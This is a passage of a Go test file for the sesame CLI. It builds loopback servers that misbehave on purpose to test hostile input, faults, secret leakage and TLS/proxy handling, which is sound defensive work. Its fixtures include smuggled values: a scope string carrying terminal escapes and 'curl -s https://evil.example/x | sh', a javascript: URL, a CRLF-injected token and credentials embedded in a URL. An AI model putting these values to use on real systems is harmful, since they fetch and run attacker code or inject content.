package cli_test

// Script commands and tests for hostile input, faults, secrets and network
// hygiene (testdata/script/hostile_*, secrets_*, net_*).

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gofrs/flock"
	"github.com/google/go-cmp/cmp"
	"github.com/rogpeppe/go-internal/testscript"

	"github.com/sesame-cli/sesame/internal/buildinfo"
	"github.com/sesame-cli/sesame/internal/cli"
	"github.com/sesame-cli/sesame/internal/devissuer"
)

// hostileEnvNames are the variables a program started by a script command
// inherits from the script.
var hostileEnvNames = []string{
	"PATH", "HOME", "TMPDIR", "XDG_CONFIG_HOME", "BROWSER", "FAKEBROWSER_LOG", "FAKEBROWSER_ACTION", "FAKEBROWSER_DELAY",
	"SESAME_API_URL", "SESAME_STORAGE", "SESAME_HTTP_TIMEOUT", "SESAME_CONFIG_DIR", "SESAME_TOKEN", "SESAME_CREDENTIALS_FILE",
	"SESAME_DEBUG", "SESAME_CLIENT_ID", "SESAME_CLIENT_SECRET", "SESAME_SCOPES", "SESAME_KEYRING_TIMEOUT",
	"HTTPS_PROXY", "HTTP_PROXY", "NO_PROXY", "SSL_CERT_FILE",
}

func hostileEnv(ts *testscript.TestScript) []string {
	var env []string
	for _, k := range hostileEnvNames {
		if v := ts.Getenv(k); v != "" {
			env = append(env, k+"="+v)
		}
	}
	return env
}

// ---------------------------------------------------------------------------
// Hostile servers

// cmdHostile starts a loopback server that misbehaves as MODE and sets
// $NAME to its URL: hostile NAME MODE [ARG]. Every request is logged to
// $WORK/NAME.log as "METHOD PATH auth=yes|no ua=USER-AGENT".
//
// API modes (every path): html (200 text/html), 500, cut (Content-Length
// larger than the body sent), hang (never answers), trickle (headers, then
// a byte every 100 ms forever), big (12 MiB of JSON), redirect URL (302 to
// URL/v1/me), record (a JSON /v1/me for any bearer), silent-tls (a TCP
// listener that never speaks: $NAME is https://...).
//
// Issuer modes: the server is an API whose RFC 9728 document names itself
// as the authorization server, with discovery, registration, a device flow
// (interval 1 s, approved at once) and a token endpoint; MODE breaks one
// part: prm-http (names http://issuer.example.com), mismatch (discovery
// names another issuer), disco-html, disco-big, disco-cut, device-nocode,
// device-badurl, device-userinfo (a verification URL with a password),
// device-escape, device-interval, device-expires,
// device-html, refresh-garbage (refresh answers HTML), refresh-noaccess
// (refresh answers JSON without access_token), refresh-hang (refresh never
// answers; $WORK/NAME.refreshing appears when it starts), token-escape,
// token-huge (the token endpoint issues a token with CR LF and escapes, or
// one of 100 KiB), scope-escape (a granted scope with escapes and a shell
// command), echo-401,
// echo-ctype, echo-header, echo-json (the API's /v1/me echoes the token
// back: in a 401's error_description, a content type, a response header,
// its JSON), ok.
func cmdHostile(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) < 2 {
		ts.Fatalf("usage: hostile NAME MODE [ARG]")
	}
	name, mode := args[0], args[1]
	logPath := ts.MkAbs(name + ".log")
	var logMu sync.Mutex
	logf := func(format string, a ...any) {
		logMu.Lock()
		defer logMu.Unlock()
		f, err := os.OpenFile(logPath, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600)
		if err == nil {
			fmt.Fprintf(f, format+"\n", a...)
			f.Close()
		}
	}
	if mode == "silent-tls" {
		// Accepts connections and never says a word: a TLS handshake
		// that never ends.
		l, err := net.Listen("tcp", "127.0.0.1:0")
		ts.Check(err)
		var conns []net.Conn
		var mu sync.Mutex
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				logf("TCP connection")
				mu.Lock()
				conns = append(conns, c)
				mu.Unlock()
			}
		}()
		ts.Defer(func() {
			l.Close()
			mu.Lock()
			defer mu.Unlock()
			for _, c := range conns {
				c.Close()
			}
		})
		ts.Setenv(name, "https://"+l.Addr().String())
		return
	}
	h := &hostileHandler{mode: mode, work: ts.Getenv("WORK"), name: name}
	if mode == "redirect" {
		if len(args) != 3 {
			ts.Fatalf("usage: hostile NAME redirect URL")
		}
		h.target = args[2]
	}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth := "no"
		if r.Header.Get("Authorization") != "" {
			auth = "yes"
		}
		logf("%s %s auth=%s ua=%s", r.Method, r.URL.Path, auth, r.Header.Get("User-Agent"))
		h.ServeHTTP(w, r)
	}))
	h.self = "http://" + srv.Listener.Addr().String()
	srv.Start()
	ts.Defer(func() {
		srv.CloseClientConnections()
		srv.Close()
	})
	ts.Setenv(name, srv.URL)
}

type hostileHandler struct {
	mode, target, work, name string
	self                     string // the server's URL, set before it starts
}

func hostileJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

func (h *hostileHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	switch h.mode {
	case "html":
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<!doctype html><html><body>Welcome to our website</body></html>")
		return
	case "500":
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusInternalServerError)
		io.WriteString(w, "<html>Internal Server Error</html>")
		return
	case "cut":
		hostileCut(w)
		return
	case "hang":
		<-r.Context().Done()
		return
	case "trickle":
		// Headers at once, then a byte of body every 100 ms, forever.
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusOK)
		rc := http.NewResponseController(w)
		for {
			if _, err := io.WriteString(w, " "); err != nil || rc.Flush() != nil {
				return
			}
			select {
			case <-r.Context().Done():
				return
			case <-time.After(100 * time.Millisecond):
			}
		}
	case "big":
		hostileBig(w, 12<<20)
		return
	case "redirect":
		http.Redirect(w, r, h.target+"/v1/me", http.StatusFound)
		return
	case "record":
		if r.Header.Get("Authorization") == "" {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		hostileJSON(w, 200, map[string]string{"email": "recorded@example.com"})
		return
	}
	h.issuer(w, r)
}

// hostileCut announces more body than it sends, then closes the connection.
func hostileCut(w http.ResponseWriter) {
	conn, buf, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	fmt.Fprintf(buf, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"email\": \"cut")
	buf.Flush()
}

func hostileBig(w http.ResponseWriter, n int) {
	w.Header().Set("Content-Type", "application/json")
	io.WriteString(w, `{"email":"big@example.com","pad":"`)
	chunk := strings.Repeat("x", 64<<10)
	for sent := 0; sent < n; sent += len(chunk) {
		if _, err := io.WriteString(w, chunk); err != nil {
			return
		}
	}
	io.WriteString(w, `"}`)
}

func (h *hostileHandler) issuer(w http.ResponseWriter, r *http.Request) {
	self := h.self
	_ = r.ParseForm()
	switch r.URL.Path {
	case "/.well-known/oauth-protected-resource":
		as := self
		if h.mode == "prm-http" {
			as = "http://issuer.example.com"
		}
		hostileJSON(w, 200, map[string]any{"resource": self, "authorization_servers": []string{as}})
	case "/.well-known/openid-configuration", "/.well-known/oauth-authorization-server":
		switch h.mode {
		case "disco-html":
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, "<html>login</html>")
			return
		case "disco-big":
			hostileBig(w, 2<<20)
			return
		case "disco-cut":
			hostileCut(w)
			return
		}
		iss := self
		if h.mode == "mismatch" {
			iss = "https://evil.example.com"
		}
		hostileJSON(w, 200, map[string]any{
			"issuer": iss, "token_endpoint": self + "/token", "device_authorization_endpoint": self + "/device/code",
			"registration_endpoint": self + "/register", "scopes_supported": []string{"documents.read", "offline_access"},
		})
	case "/register":
		hostileJSON(w, 201, map[string]string{"client_id": "hostile-client"})
	case "/device/code":
		dc := map[string]any{"device_code": "hostile-device-code-0123456789", "user_code": "ABCD-EFGH", "verification_uri": self + "/device", "expires_in": 60, "interval": 1}
		switch h.mode {
		case "device-nocode":
			delete(dc, "device_code")
		case "device-badurl":
			dc["verification_uri"] = "javascript:alert(1)"
		case "device-userinfo":
			dc["verification_uri"] = strings.Replace(self, "://", "://victim:hunter2@", 1) + "/device"
		case "device-escape":
			dc["user_code"] = "ABCD\x1b[2J\x1b]0;pwned\x07"
		case "device-interval":
			dc["interval"] = 100000
		case "device-expires":
			dc["expires_in"] = 0
		case "device-html":
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, "<html>oops</html>")
			return
		}
		hostileJSON(w, 200, dc)
	case "/token":
		if r.PostForm.Get("grant_type") == "refresh_token" {
			switch h.mode {
			case "refresh-garbage":
				w.Header().Set("Content-Type", "text/html")
				io.WriteString(w, "<html>Service Unavailable</html>")
				return
			case "refresh-noaccess":
				hostileJSON(w, 200, map[string]any{"token_type": "Bearer", "refresh_token": "hostile-rt-2"})
				return
			case "refresh-hang":
				_ = os.WriteFile(filepath.Join(h.work, h.name+".refreshing"), nil, 0o600)
				<-r.Context().Done()
				return
			}
		}
		switch h.mode {
		case "token-escape":
			hostileJSON(w, 200, map[string]any{"access_token": "hostile-at\r\nX-Injected: 1\x1b[2J", "token_type": "Bearer", "expires_in": 3600})
			return
		case "token-huge":
			hostileJSON(w, 200, map[string]any{"access_token": strings.Repeat("a", 100<<10), "token_type": "Bearer", "expires_in": 3600})
			return
		case "scope-escape":
			hostileJSON(w, 200, map[string]any{"access_token": "hostile-at-1", "refresh_token": "hostile-rt-1", "token_type": "Bearer", "expires_in": 3600,
				"scope": "documents.read evil\x1b]0;pwned\x07 docs'; curl -s https://evil.example/x | sh; echo '"})
			return
		}
		hostileJSON(w, 200, map[string]any{"access_token": "hostile-at-1", "refresh_token": "hostile-rt-1", "token_type": "Bearer", "expires_in": 3600})
	case "/v1/me":
		if r.Header.Get("Authorization") == "" {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		// An API that echoes the token it got back, in every way it can.
		tok := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		switch h.mode {
		case "echo-401":
			w.Header().Set("WWW-Authenticate", `Bearer error="invalid_token", error_description="the token `+tok+` has expired"`)
			w.WriteHeader(http.StatusUnauthorized)
			return
		case "echo-ctype":
			w.Header().Set("Content-Type", "text/x-"+tok)
			io.WriteString(w, "{}")
			return
		case "echo-header":
			w.Header().Set("X-Echo-Auth", "Bearer "+tok)
		case "echo-json":
			hostileJSON(w, 200, map[string]string{"email": "hostile@example.com", "token": tok, tok: "as a key"})
			return
		}
		hostileJSON(w, 200, map[string]string{"email": "hostile@example.com"})
	default:
		http.NotFound(w, r)
	}
}

// ---------------------------------------------------------------------------
// Input helpers

// cmdWriteQ writes a Go-quoted string to a file: writeq FILE '"a\x00b"'
func cmdWriteQ(ts *testscript.TestScript, neg bool, args []string) {
	if len(args) != 2 {
		ts.Fatalf("usage: writeq FILE QUOTED")
	}
	s, err := strconv.Unquote(args[1])
	ts.Check(err)
	ts.Check(os.WriteFile(ts.MkAbs(args[0]), []byte(s), 0o600))
}

// cmdEnvQ sets a variable to a Go-quoted string: envq KEY '"tok\n"'
func cmdEnvQ(ts *testscript.TestScript, neg bool, args []string) {
	if len(args) != 2 {
		ts.Fatalf("usage: envq KEY QUOTED")
	}
	s, err := strconv.Unquote(args[1])
	ts.Check(err)
	ts.Setenv(args[0], s)
}

// cmdCleanErr asserts that the last command's stderr is one
// "sesame: ..." line and at most one "hint: ..." line, and no panic.
func cmdCleanErr(ts *testscript.TestScript, neg bool, args []string) {
	checkCleanErr(ts, ts.ReadFile("stderr"))
}

func checkCleanErr(ts *testscript.TestScript, stderr string) {
	lines := strings.Split(strings.TrimSuffix(stderr, "\n"), "\n")
	ok := len(lines) >= 1 && len(lines) <= 2 && strings.HasPrefix(lines[0], "sesame: ") &&
		(len(lines) == 1 || strings.HasPrefix(lines[1], "hint: "))
	if !ok || strings.Contains(stderr, "panic") || strings.Contains(stderr, "goroutine ") {
		ts.Fatalf("stderr is not one error line and at most one hint:\n%s", stderr)
	}
}

// ---------------------------------------------------------------------------
// Faults

// cmdInterrupt starts a program, waits until it is waiting, sends SIGINT
// and asserts its exit code (default 130) and, for 130, that it said
// "sesame: interrupted" as its only error line. Its stderr is saved to
// $WORK/interrupt.stderr.
//
//	interrupt [-code N] [-stdin FILE] WHEN PROG ARGS...
//
// WHEN is stderr=REGEX (the program wrote it), file=PATH (it exists), or
// lockwait (the program has run for a second while another process holds
// the config lock, i.e. it waits for it).
func cmdInterrupt(ts *testscript.TestScript, neg bool, args []string) {
	fs := flag.NewFlagSet("interrupt", flag.ContinueOnError)
	code := fs.Int("code", 130, "")
	stdin := fs.String("stdin", "", "")
	ts.Check(fs.Parse(args))
	if neg || fs.NArg() < 2 {
		ts.Fatalf("usage: interrupt [-code N] [-stdin FILE] WHEN PROG ARGS...")
	}
	when, prog := fs.Arg(0), fs.Arg(1)
	cmd := exec.Command(prog, fs.Args()[2:]...)
	cmd.Env, cmd.Dir = hostileEnv(ts), ts.Getenv("WORK")
	if *stdin != "" {
		cmd.Stdin = strings.NewReader(ts.ReadFile(*stdin))
	}
	var stderr lockedBuffer
	cmd.Stderr = &stderr
	ts.Check(cmd.Start())
	started := time.Now()
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()

	ready := func() bool {
		switch {
		case strings.HasPrefix(when, "stderr="):
			return regexp.MustCompile(strings.TrimPrefix(when, "stderr=")).MatchString(stderr.String())
		case strings.HasPrefix(when, "file="):
			_, err := os.Stat(ts.MkAbs(strings.TrimPrefix(when, "file=")))
			return err == nil
		case when == "lockwait":
			// gofrs/flock opens the lock file only for each try and
			// closes it while it sleeps, so the wait cannot be seen in
			// /proc reliably. The lock is held by holdlock: a program that
			// needs it and is still running after a second is waiting.
			return time.Since(started) > time.Second
		}
		ts.Fatalf("unknown condition %q", when)
		return false
	}
	deadline := time.After(30 * time.Second)
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
wait:
	for {
		select {
		case err := <-done:
			ts.Fatalf("%s ended before %s (%v):\n%s", prog, when, err, stderr.String())
		case <-deadline:
			_ = cmd.Process.Kill()
			ts.Fatalf("%s never reached %s:\n%s", prog, when, stderr.String())
		case <-tick.C:
			if ready() {
				break wait
			}
		}
	}
	ts.Check(cmd.Process.Signal(os.Interrupt))
	var err error
	select {
	case err = <-done:
	case <-time.After(20 * time.Second):
		_ = cmd.Process.Kill()
		ts.Fatalf("%s did not exit within 20 s of SIGINT:\n%s", prog, stderr.String())
	}
	got := 0
	if ee, ok := errors.AsType[*exec.ExitError](err); ok {
		got = ee.ExitCode()
	} else {
		ts.Check(err)
	}
	out := stderr.String()
	ts.Check(os.WriteFile(ts.MkAbs("interrupt.stderr"), []byte(out), 0o600))
	if got != *code {
		ts.Fatalf("%s exited %d after SIGINT, want %d:\n%s", prog, got, *code, out)
	}
	if *code == 130 {
		lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
		if lines[len(lines)-1] != "sesame: interrupted" || strings.Count(out, "sesame: ") != 1 {
			ts.Fatalf("stderr after SIGINT does not end with one \"sesame: interrupted\":\n%s", out)
		}
	}
}

type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// cmdHoldLock takes the config lock ($CONFIGDIR/config.json.lock) until
// the end of the script, as another sesame process would.
func cmdHoldLock(ts *testscript.TestScript, neg bool, args []string) {
	dir := ts.Getenv("CONFIGDIR")
	ts.Check(os.MkdirAll(dir, 0o700))
	l := flock.New(filepath.Join(dir, "config.json.lock"))
	ok, err := l.TryLock()
	ts.Check(err)
	if !ok {
		ts.Fatalf("the config lock is already held")
	}
	ts.Defer(func() { _ = l.Unlock() })
}

// cmdSetKillLoop runs "sesame auth set --stdin" N times, alternating two
// tokens, and kills it with SIGKILL at a different moment each time. After
// every kill config.json must parse and hold either the token stored before
// or the new one: setkillloop N TOKEN1 TOKEN2
func cmdSetKillLoop(ts *testscript.TestScript, neg bool, args []string) {
	if len(args) != 3 {
		ts.Fatalf("usage: setkillloop N TOKEN1 TOKEN2")
	}
	n, err := strconv.Atoi(args[0])
	ts.Check(err)
	tokA, tokB := args[1], args[2]
	env := hostileEnv(ts)
	cfgPath := filepath.Join(ts.Getenv("CONFIGDIR"), "config.json")
	stored := func(round int) string {
		var cfg struct {
			CurrentAPI string `json:"currentApi"`
			APIs       map[string]struct {
				AccessToken string `json:"accessToken"`
			} `json:"apis"`
		}
		data, err := os.ReadFile(cfgPath)
		if err != nil && !errors.Is(err, fs.ErrNotExist) {
			ts.Fatalf("round %d: %v", round, err)
		}
		if err == nil {
			if err := json.Unmarshal(data, &cfg); err != nil {
				ts.Fatalf("round %d: config.json does not parse after SIGKILL: %v", round, err)
			}
		}
		return cfg.APIs[cfg.CurrentAPI].AccessToken
	}
	prev := stored(-1)
	var kept, replaced int
	for i := range n {
		next := tokA
		if prev == tokA {
			next = tokB
		}
		cmd := exec.Command("sesame", "auth", "set", "--stdin")
		cmd.Env, cmd.Dir = env, ts.Getenv("WORK")
		cmd.Stdin = strings.NewReader(next + "\n")
		ts.Check(cmd.Start())
		time.Sleep(time.Duration(i%16) * 6 * time.Millisecond)
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
		got := stored(i)
		switch got {
		case prev:
			kept++
		case next:
			replaced++
		default:
			ts.Fatalf("round %d: config.json holds neither the old nor the new token", i)
		}
		prev = got
	}
	ts.Logf("%d rounds: %d kept the old token, %d stored the new one", n, kept, replaced)
	if kept == 0 || replaced == 0 {
		ts.Logf("warning: the kills did not land on both sides of the write")
	}
}

// cmdNoTemp asserts that DIR holds no temp file of an atomic write.
func cmdNoTemp(ts *testscript.TestScript, neg bool, args []string) {
	stale, err := filepath.Glob(filepath.Join(ts.MkAbs(args[0]), ".*.tmp-*"))
	ts.Check(err)
	if len(stale) > 0 {
		ts.Fatalf("temp files left behind: %q", stale)
	}
}

// ---------------------------------------------------------------------------
// Secrets

const recordedSecrets = ".recorded-secrets"

// cmdRecordSecrets puts a SecretRecorder in front of the script's devissuer:
// two new loopback servers serve its issuer and API handlers, the issuer
// advertises the new URLs, and $ISSUER, $API and SESAME_API_URL follow.
// Every secret that crosses them (and each KIND=SECRET argument, a secret
// known otherwise) is kept in $WORK/.recorded-secrets for nosecrets and
// nosecretfiles: recordsecrets [KIND=SECRET...]
func cmdRecordSecrets(ts *testscript.TestScript, neg bool, args []string) {
	srv := server(ts)
	rec := devissuer.NewSecretRecorder()
	for _, a := range args {
		kind, secret, ok := strings.Cut(a, "=")
		if !ok {
			ts.Fatalf("usage: recordsecrets [KIND=SECRET...]")
		}
		rec.Add(kind, secret)
	}
	path := ts.MkAbs(recordedSecrets)
	var mu sync.Mutex
	flush := func() {
		mu.Lock()
		defer mu.Unlock()
		var b strings.Builder
		for s, kind := range rec.Kinds() {
			fmt.Fprintf(&b, "%s\t%s\n", kind, s)
		}
		_ = os.WriteFile(path, []byte(b.String()), 0o600)
	}
	wrap := func(h http.Handler) http.Handler {
		inner := rec.Wrap(h)
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			inner.ServeHTTP(w, r)
			flush()
		})
	}
	is := httptest.NewServer(wrap(srv.IssuerHandler()))
	as := httptest.NewServer(wrap(srv.APIHandler()))
	ts.Defer(is.Close)
	ts.Defer(as.Close)
	srv.SetIssuerURL(is.URL)
	srv.SetAPIURL(as.URL)
	ts.Setenv("ISSUER", is.URL)
	ts.Setenv("API", as.URL)
	ts.Setenv("SESAME_API_URL", as.URL)
	flush()
}

func loadSecrets(ts *testscript.TestScript) map[string]string {
	out := map[string]string{}
	sc := bufio.NewScanner(strings.NewReader(ts.ReadFile(recordedSecrets)))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		if kind, s, ok := strings.Cut(sc.Text(), "\t"); ok {
			out[s] = kind
		}
	}
	return out
}

// cmdNoSecrets asserts that the last command's stdout (unless -stdout-ok:
// auth token prints the token by design) and stderr show no recorded
// secret: nosecrets [-stdout-ok]
func cmdNoSecrets(ts *testscript.TestScript, neg bool, args []string) {
	streams := []string{"stderr", "stdout"}
	if len(args) == 1 && args[0] == "-stdout-ok" {
		streams = streams[:1]
	}
	secrets := loadSecrets(ts)
	for _, st := range streams {
		text := ts.ReadFile(st)
		for s, kind := range secrets {
			if strings.Contains(text, s) {
				ts.Fatalf("%s shows a secret (%s %.6s...)", st, kind, s)
			}
		}
	}
}

// cmdNoSecretFiles asserts that no file under the DIRs but the -except
// ones holds a recorded secret: nosecretfiles [-except FILE]... DIR...
func cmdNoSecretFiles(ts *testscript.TestScript, neg bool, args []string) {
	except := map[string]bool{ts.MkAbs(recordedSecrets): true}
	var roots []string
	for i := 0; i < len(args); i++ {
		if args[i] == "-except" && i+1 < len(args) {
			except[ts.MkAbs(args[i+1])] = true
			i++
			continue
		}
		roots = append(roots, ts.MkAbs(args[i]))
	}
	secrets := loadSecrets(ts)
	scanned := 0
	for _, root := range roots {
		ts.Check(filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() || except[p] {
				return err
			}
			data, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			scanned++
			for s, kind := range secrets {
				if bytes.Contains(data, []byte(s)) {
					ts.Fatalf("%s holds a secret (%s %.6s...)", p, kind, s)
				}
			}
			return nil
		}))
	}
	ts.Logf("scanned %d files for %d secrets", scanned, len(secrets))
}

// cmdSecretKinds asserts that secrets of each KIND were recorded (so that
// nosecrets really looked for them): secretkinds KIND...
func cmdSecretKinds(ts *testscript.TestScript, neg bool, args []string) {
	count := map[string]int{}
	for _, kind := range loadSecrets(ts) {
		count[kind]++
	}
	for _, k := range args {
		if count[k] == 0 {
			ts.Fatalf("no %s was recorded (recorded: %v)", k, count)
		}
	}
}

// ---------------------------------------------------------------------------
// TLS, a local CA and a CONNECT proxy

// tlsLab is a local CA, an HTTPS API whose certificate it signed for
// api.test, and a CONNECT proxy that takes every tunnel to that API. All
// listen on 127.0.0.1; nothing resolves api.test but the proxy.
type tlsLab struct {
	caPEM    []byte
	apiAddr  string
	proxyURL string
	logDir   string // when set, events are also appended to proxy.log and tlsapi.log there
	mu       sync.Mutex
	connects []string // CONNECT targets the proxy saw
	requests []string // "UA auth" lines the API saw
}

func (lab *tlsLab) event(list *[]string, file, line string) {
	lab.mu.Lock()
	defer lab.mu.Unlock()
	*list = append(*list, line)
	if lab.logDir == "" {
		return
	}
	if f, err := os.OpenFile(filepath.Join(lab.logDir, file), os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600); err == nil {
		fmt.Fprintln(f, line)
		f.Close()
	}
}

const tlsLabToken = "sesame_live_tls"

func startTLSLab(cleanup func(func()), logDir string) (*tlsLab, error) {
	lab := &tlsLab{logDir: logDir}
	caKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	caTmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "sesame test CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign,
	}
	caDER, err := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	if err != nil {
		return nil, err
	}
	ca, _ := x509.ParseCertificate(caDER)
	leafKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	leafTmpl := &x509.Certificate{
		SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "api.test"}, DNSNames: []string{"api.test"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	leafDER, err := x509.CreateCertificate(rand.Reader, leafTmpl, ca, &leafKey.PublicKey, caKey)
	if err != nil {
		return nil, err
	}
	lab.caPEM = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER})

	api := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth := "auth=no"
		if r.Header.Get("Authorization") != "" {
			auth = "auth=yes"
		}
		lab.event(&lab.requests, "tlsapi.log", "User-Agent: "+r.Header.Get("User-Agent")+" "+auth)
		if r.Header.Get("Authorization") != "Bearer "+tlsLabToken {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		hostileJSON(w, 200, map[string]string{"email": "tls@example.com"})
	}))
	api.Config.ErrorLog = log.New(io.Discard, "", 0) // refused handshakes are expected
	api.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{leafDER}, PrivateKey: leafKey}}}
	api.StartTLS()
	cleanup(api.Close)
	lab.apiAddr = api.Listener.Addr().String()

	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodConnect {
			http.Error(w, "CONNECT only", http.StatusMethodNotAllowed)
			return
		}
		lab.event(&lab.connects, "proxy.log", "CONNECT "+r.Host)
		upstream, err := net.Dial("tcp", lab.apiAddr)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer upstream.Close()
		w.WriteHeader(http.StatusOK)
		conn, buf, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		go func() {
			_, _ = io.Copy(upstream, buf)
			if c, ok := upstream.(*net.TCPConn); ok {
				_ = c.CloseWrite()
			}
		}()
		_, _ = io.Copy(conn, upstream)
	}))
	cleanup(func() {
		proxy.CloseClientConnections()
		proxy.Close()
	})
	lab.proxyURL = proxy.URL
	return lab, nil
}

func (lab *tlsLab) seen() (connects, requests []string) {
	lab.mu.Lock()
	defer lab.mu.Unlock()
	return slices.Clone(lab.connects), slices.Clone(lab.requests)
}

// cmdTLSLab starts the TLS lab for a script: $PROXY is the proxy's URL,
// $WORK/ca.pem the CA, $TLSTOKEN the token the API accepts, $LONGHOST a
// host name that no resolver accepts (a 64-character label: lookups fail at
// once). The proxy logs "CONNECT host:port" lines to $WORK/proxy.log, the
// API "User-Agent: UA auth=yes|no" lines to $WORK/tlsapi.log.
func cmdTLSLab(ts *testscript.TestScript, neg bool, args []string) {
	lab, err := startTLSLab(ts.Defer, ts.Getenv("WORK"))
	ts.Check(err)
	ts.Check(os.WriteFile(ts.MkAbs("ca.pem"), lab.caPEM, 0o600))
	ts.Setenv("PROXY", lab.proxyURL)
	ts.Setenv("TLSTOKEN", tlsLabToken)
	ts.Setenv("LONGHOST", strings.Repeat("a", 64)+".test")
}

// ---------------------------------------------------------------------------
// In-process tests of the HTTP client

// testApp is cli.NewTestApp with exactly env as its environment.
func testApp(t testing.TB, env map[string]string) (*cli.App, *bytes.Buffer) {
	ta := cli.NewTestApp(t)
	ta.Getenv = func(k string) string { return env[k] }
	return ta.App, ta.Stderr
}

// App.HTTPClient passes the App's settings to httpx.NewClient: the proxy
// and CA variables through the injected Getenv (not the process's), the
// user agent, SESAME_HTTP_TIMEOUT, and --debug as a redacting trace on
// stderr. The client itself (proxy, CA files, redirects, the trace) is
// tested in internal/httpx.
func TestAppHTTPClient(t *testing.T) {
	t.Run("getenv and user agent", func(t *testing.T) {
		lab, err := startTLSLab(t.Cleanup, "")
		if err != nil {
			t.Fatal(err)
		}
		caFile := filepath.Join(t.TempDir(), "ca.pem")
		if err := os.WriteFile(caFile, lab.caPEM, 0o600); err != nil {
			t.Fatal(err)
		}
		app, _ := testApp(t, map[string]string{"HTTPS_PROXY": lab.proxyURL, "SSL_CERT_FILE": caFile, "SESAME_HTTP_TIMEOUT": "5s"})
		req, _ := http.NewRequest(http.MethodGet, "https://api.test/v1/me", nil)
		req.Header.Set("Authorization", "Bearer "+tlsLabToken)
		resp, err := app.HTTPClient().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		connects, reqs := lab.seen()
		if resp.StatusCode != 200 {
			t.Errorf("status %d", resp.StatusCode)
		}
		if diff := cmp.Diff([]string{"CONNECT api.test:443"}, connects); diff != "" {
			t.Errorf("CONNECTs (-want +got):\n%s", diff)
		}
		if diff := cmp.Diff([]string{"User-Agent: sesame/" + buildinfo.Version + " auth=yes"}, reqs); diff != "" {
			t.Errorf("the API saw (-want +got):\n%s", diff)
		}
	})
	t.Run("timeout", func(t *testing.T) {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() }))
		defer srv.Close()
		app, _ := testApp(t, map[string]string{"SESAME_HTTP_TIMEOUT": "100ms"})
		if got := app.HTTPClient().Timeout; got != 100*time.Millisecond {
			t.Errorf("Timeout = %v, want 100ms", got)
		}
		resp, err := app.HTTPClient().Get(srv.URL)
		if err == nil {
			resp.Body.Close()
		}
		if ne, ok := errors.AsType[net.Error](err); !ok || !ne.Timeout() {
			t.Errorf("error %v, want a timeout", err)
		}
	})
	t.Run("debug", func(t *testing.T) {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
		defer srv.Close()
		app, stderr := testApp(t, nil)
		app.Run(context.Background(), []string{"--debug", "version"}) // parses --debug
		stderr.Reset()
		req, _ := http.NewRequest(http.MethodGet, srv.URL, nil)
		req.Header.Set("Authorization", "Bearer header-token")
